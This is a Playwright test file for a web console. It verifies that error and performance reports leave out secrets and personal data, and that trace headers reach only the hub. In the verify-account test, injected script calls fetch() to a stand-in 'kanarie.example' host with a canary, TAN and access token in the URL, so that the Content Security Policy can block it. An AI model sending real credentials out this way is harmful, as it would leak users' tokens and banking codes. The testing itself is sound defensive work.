import { startStaticHost, type StaticHost } from '../../tools/hosting/serve.ts';
import { expect, test as base } from './fixtures.ts';
import { json } from './support/answers.ts';
import { ConsoleUnderTest } from './support/consoleUnderTest.ts';
import { startReportEndpoint } from './support/reportEndpoint.ts';
import { Wizard } from './support/wizard.ts';

type Endpoint = Awaited<ReturnType<typeof startReportEndpoint>>;

/** The console of a deployment that reports and traces. */
const test = base.extend<{ endpoint: Endpoint; reporting: ConsoleUnderTest }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the dependencies from it
  endpoint: async ({}, use) => {
    const endpoint = await startReportEndpoint();
    await use(endpoint);
    await endpoint.close();
  },
  reporting: async ({ page, services, endpoint }, use) => {
    const config = (await (await fetch(`${services.url}/config.json`)).json()) as { hub: object };
    const host: StaticHost = await startStaticHost({
      root: 'dist',
      config: {
        ...config,
        hub: { ...config.hub, traceparent: true },
        reporting: { endpoint: endpoint.url },
      },
    });
    await use(new ConsoleUnderTest(page, services, host.url, { loads: [], writes: [], blanks: 0 }));
    await host.close();
  },
});

/** No text of the console contains any of these. */
const CANARY = 'KANARIE';
const TAN = '73917391';

/** The id that a failure screen shows. */
async function shownId({ page }: ConsoleUnderTest) {
  const text = await page.getByText(/Error ID: [\da-f-]{36}/).innerText();
  return /Error ID: ([\da-f-]{36})/.exec(text)?.[1];
}

// tests/reporting proves for each kind of trouble what is sent of it, and that nothing is without an endpoint.
test('reports reach another origin without a preflight, name the shown error, and hold nothing of a person', async ({
  reporting: app,
  page,
  endpoint,
}) => {
  const { reports, received } = endpoint;
  await app.open(`/auth-callback?code=${CANARY}&state=${CANARY}`);
  const signIn = { kind: 'sign-in', errorId: await shownId(app), error: 'UnknownStateError' };
  await expect.poll(reports).toContainEqual(expect.objectContaining(signIn));
  await page.route('**/assets/renderPublic-*', (route) => route.abort());
  await app.open('/login');
  // The first time, the page is loaded again by itself.
  const boot = { kind: 'boot', errorId: await shownId(app), route: '/login' };
  await expect.poll(reports).toContainEqual(expect.objectContaining(boot));
  await page.unroute('**/assets/renderPublic-*');

  // A failed call of the hub, at an address with an id.
  const { accessToken } = await app.signedIn();
  const failing = await app.answer('GET', '/api/users/me', json({ message: CANARY }, 500));
  await app.open(`/api-keys/${CANARY}?q=${CANARY}#${CANARY}`);
  const errorId = await shownId(app);
  await expect.poll(reports).toContainEqual(
    expect.objectContaining({
      kind: 'screen',
      errorId,
      error: 'HubError',
      reason: 'status',
      status: 500,
      call: 'GET /api/users/me',
      route: '/api-keys/:id',
      language: 'en',
      browser: { family: 'Chrome', major: expect.any(Number) },
    }),
  );
  await failing.stop();

  // What a person tells their bank is in the page while errors quote it.
  const wizard = new Wizard(app);
  await app.open('/verify-account');
  await wizard.chooseBank();
  await wizard.login('ChAiN', CANARY);
  await wizard.expectStep('ShowDialog');
  await page.getByRole('radio', { name: 'pushTAN' }).press('Space');
  await wizard.button('Continue').click();
  await wizard.field('TAN or code').fill(TAN);
  await page.evaluate(
    (secrets) => {
      const text = secrets.join(' ');
      setTimeout(() => {
        throw Object.assign(new RangeError(text), { code: text, [text]: text });
      });
      void Promise.reject(new Error(text, { cause: text }));
      void fetch(`https://${secrets[0]?.toLowerCase()}.example/${text}`).catch(() => undefined);
    },
    [CANARY, TAN, accessToken],
  );
  await expect
    .poll(() =>
      reports().map(({ kind, ...rest }) => ({ kind, error: 'error' in rest && rest.error })),
    )
    .toEqual(
      expect.arrayContaining([
        { kind: 'error', error: 'RangeError' },
        { kind: 'unhandledrejection', error: 'Error' },
        { kind: 'securitypolicyviolation', error: false },
      ]),
    );
  expect(reports()).toContainEqual(
    expect.objectContaining({
      directive: 'connect-src',
      blocked: 'other',
      route: '/verify-account',
    }),
  );

  // Measurements leave with the page.
  await page.goto('about:blank');
  await expect
    .poll(() => reports().flatMap((report) => (report.kind === 'vital' ? report.name : [])))
    .toEqual(expect.arrayContaining(['TTFB', 'FCP', 'LCP']));

  for (const { method, headers, body } of received) {
    expect(method).toBe('POST');
    expect(headers['content-type']).toMatch(/^text\/plain/);
    expect(headers.referer).toBeUndefined();
    const all = `${JSON.stringify(headers)} ${body}`;
    for (const secret of [CANARY, TAN, accessToken, 'ada@', 'Lovelace', 'ChAiN']) {
      expect(all.toLowerCase()).not.toContain(secret.toLowerCase());
    }
  }
});

// tests/providers/tracedHub.test.ts proves the header; this, that it goes to the hub alone.
test('calls of the hub carry a trace, which the failure names for support, and nobody else gets it', async ({
  reporting: app,
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const traces = new Map<string, string | undefined>();
  page.on('request', (request) => {
    if (request.method() === 'OPTIONS') return;
    const { origin, pathname } = new URL(request.url());
    traces.set(origin + pathname, request.headers()['traceparent']);
  });
  const failing = await app.answer('GET', '/api/tenant', json({}, 500));
  await app.signInByPages('ada@acme.example');
  await app.open('/verify-account');
  await new Wizard(app).expectStep('SelectConnection');
  await failing.stop();

  const isHub = (url: string) => url.startsWith(`${app.services.url}/api/`);
  expect([...traces.keys()].filter(isHub).length).toBeGreaterThan(2);
  expect([...traces.keys()].filter((url) => !isHub(url)).length).toBeGreaterThan(5);
  for (const [url, trace] of traces) {
    if (isHub(url)) expect(trace, url).toMatch(/^00-[\da-f]{32}-[\da-f]{16}-01$/);
    else expect(trace, url).toBeUndefined();
  }

  await app.answer('GET', '/api/users/me', json({}, 500));
  await app.open('/');
  await page.getByRole('button', { name: 'Copy details for support' }).click();
  const copied = await page.evaluate(() => navigator.clipboard.readText());
  const trace = traces.get(`${app.services.url}/api/users/me`)?.split('-')[1];
  expect(copied).toContain(`Trace ID: ${trace}`);
});
